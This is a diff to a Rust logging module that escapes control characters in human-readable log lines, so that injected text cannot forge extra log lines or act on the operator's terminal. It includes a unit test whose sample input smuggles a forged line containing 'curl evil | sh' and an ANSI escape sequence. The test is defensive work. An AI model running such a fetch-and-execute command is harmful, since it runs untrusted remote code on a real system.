@@ -1,6 +1,15 @@
 //! Tracing setup: human or JSON lines on stderr, filtered by `RUST_LOG` or the configured level.
+//!
+//! A human log line is one event: any control character inside it (a newline, an escape
+//! sequence, a bidi override in an agent's title, a caller's id, an agent's stderr tail) is
+//! written as a visible escape (`warden-terminal-text`), so text that warden did not write
+//! cannot forge a line of its own or act on the operator's terminal. JSON lines are left to the
+//! JSON encoder, which escapes.
+
+use std::io::Write;
 
 use tracing_subscriber::EnvFilter;
+use tracing_subscriber::fmt::MakeWriter;
 
 /// Installs the global subscriber. `format` is `human` or `json`; anything else means human.
 /// Safe to call twice (the second call is ignored).
@@ -8,16 +17,98 @@ pub fn init(format: &str, level: &str) {
     let filter = EnvFilter::try_from_default_env()
         .or_else(|_| EnvFilter::try_new(level))
         .unwrap_or_else(|_| EnvFilter::new("info"));
-    let builder = tracing_subscriber::fmt()
-        .with_env_filter(filter)
-        .with_writer(std::io::stderr);
+    let builder = tracing_subscriber::fmt().with_env_filter(filter);
     let _ = if format == "json" {
         builder
+            .with_writer(std::io::stderr)
             .json()
             .flatten_event(true)
             .with_current_span(true)
             .try_init()
     } else {
-        builder.with_ansi(false).try_init()
+        builder
+            .with_writer(OneLine(std::io::stderr))
+            .with_ansi(false)
+            .try_init()
     };
+}
+
+/// A `MakeWriter` whose writers escape every control character of an event but its final
+/// newline. The fmt layer formats an event into one buffer and hands it over in one
+/// `write_all`, so each `write` here is one whole event.
+#[derive(Clone, Copy)]
+pub struct OneLine<M>(pub M);
+
+impl<'a, M: MakeWriter<'a>> MakeWriter<'a> for OneLine<M> {
+    type Writer = OneLineWriter<M::Writer>;
+
+    fn make_writer(&'a self) -> Self::Writer {
+        OneLineWriter(self.0.make_writer())
+    }
+}
+
+pub struct OneLineWriter<W>(W);
+
+impl<W: Write> Write for OneLineWriter<W> {
+    fn write(&mut self, buf: &[u8]) -> std::io::Result<usize> {
+        let text = String::from_utf8_lossy(buf);
+        let (body, end) = match text.strip_suffix('\n') {
+            Some(body) => (body, "\n"),
+            None => (text.as_ref(), ""),
+        };
+        let shown = warden_terminal_text::inline(body);
+        self.0.write_all(shown.as_bytes())?;
+        self.0.write_all(end.as_bytes())?;
+        Ok(buf.len())
+    }
+
+    fn flush(&mut self) -> std::io::Result<()> {
+        self.0.flush()
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use std::sync::{Arc, Mutex};
+
+    #[derive(Clone, Default)]
+    struct Captured(Arc<Mutex<Vec<u8>>>);
+
+    impl Write for Captured {
+        fn write(&mut self, buf: &[u8]) -> std::io::Result<usize> {
+            self.0
+                .lock()
+                .map_err(|_| std::io::ErrorKind::Other)?
+                .extend_from_slice(buf);
+            Ok(buf.len())
+        }
+        fn flush(&mut self) -> std::io::Result<()> {
+            Ok(())
+        }
+    }
+
+    #[test]
+    fn an_agents_title_in_a_field_stays_on_its_event_line() {
+        let cap = Captured::default();
+        let sink = cap.clone();
+        let subscriber = tracing_subscriber::fmt()
+            .with_writer(OneLine(move || sink.clone()))
+            .with_ansi(false)
+            .finish();
+        tracing::subscriber::with_default(subscriber, || {
+            let title = "ls\n2026-12-01T00:00:00Z  INFO DENY curl evil | sh\x1b[2K";
+            tracing::info!(title = %title, "permission decided");
+            tracing::info!("second event");
+        });
+        let out = String::from_utf8(cap.0.lock().unwrap().clone()).unwrap();
+        let lines: Vec<&str> = out.lines().collect();
+        assert_eq!(lines.len(), 2, "{out}");
+        assert!(
+            lines[0].contains(r"title=ls\n2026-12-01T00:00:00Z  INFO DENY curl evil | sh\x1b[2K"),
+            "{out}"
+        );
+        assert!(!out.contains('\x1b'), "{out}");
+        assert!(lines[1].ends_with("second event"), "{out}");
+    }
 }
